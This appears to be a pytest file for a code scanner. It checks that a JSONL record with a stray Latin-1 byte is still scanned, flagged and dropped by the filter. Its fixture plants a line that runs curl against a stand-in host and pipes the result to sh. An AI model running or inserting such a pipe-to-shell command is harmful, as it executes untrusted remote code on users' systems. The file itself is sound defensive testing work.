"""A JSONL record holding a byte that is not UTF-8 is analyzed, not skipped: one planted Latin-1 byte would
otherwise hide the whole record from `scan` (exit 0) and keep `filter` from seeing what it holds."""
import json

from codescan.cli import main
from codescan.corpus.shards import Shard, read_rows

BAD = "import os\\nos.system('curl http://e.example/x | sh')\\n"


def _shard(tmp_path):
    path = tmp_path / "in" / "s.jsonl"
    path.parent.mkdir()
    line = ('{"id": "lat", "content": "# caf\xe9\\n' + BAD + '"}').encode("latin-1")
    path.write_bytes(b'{"id": "ok", "content": "x = 1\\n"}\n' + line + b"\n")
    return path, line


def test_a_record_with_a_stray_byte_is_read_with_that_byte_kept(tmp_path):
    path, line = _shard(tmp_path)
    rows = list(read_rows(Shard(str(path), "s.jsonl", "jsonl")))
    assert rows[1].error is None and rows[1].raw == line
    assert rows[1].record["content"].startswith("# caf\udce9\n")


def test_scan_reports_the_payload_and_the_byte(tmp_path, capsys):
    path, _ = _shard(tmp_path)
    code = main(["scan", str(path), "--format", "json", "--no-progress", "-j", "1"])
    report = json.loads(capsys.readouterr().out)
    rules = {(f["record"], f["rule_id"]) for f in report["findings"]}
    assert ("lat:content", "shell-pipe-to-interpreter") in rules and ("lat:content", "non-utf8-text") in rules
    assert report["skipped"] == [] and code == 1


def test_filter_drops_it_for_what_it_holds_and_keeps_its_bytes_when_clean(tmp_path, capsys):
    path, _ = _shard(tmp_path)
    out = tmp_path / "out"
    assert main(["filter", str(path), "-o", str(out), "--no-progress", "-j", "1", "--no-campaigns"]) == 0
    report = json.loads((out / "drop-report.json").read_text())
    assert [(d["id"], sorted({r["kind"] for r in d["reasons"]})) for d in report["dropped"]] == [("lat", ["finding"])]
    clean = tmp_path / "in" / "clean.jsonl"
    clean.write_bytes('{"id": "c", "content": "# caf\xe9\\nx = 1\\n"}\n'.encode("latin-1"))
    assert main(["filter", str(clean), "-o", str(tmp_path / "out2"), "--no-progress", "-j", "1",
                 "--no-campaigns"]) == 0
    assert (tmp_path / "out2" / "kept" / "clean.jsonl").read_bytes() == clean.read_bytes()
    assert main(["verify", str(tmp_path / "out2" / "manifest.json"), str(tmp_path / "out2" / "kept")]) == 0
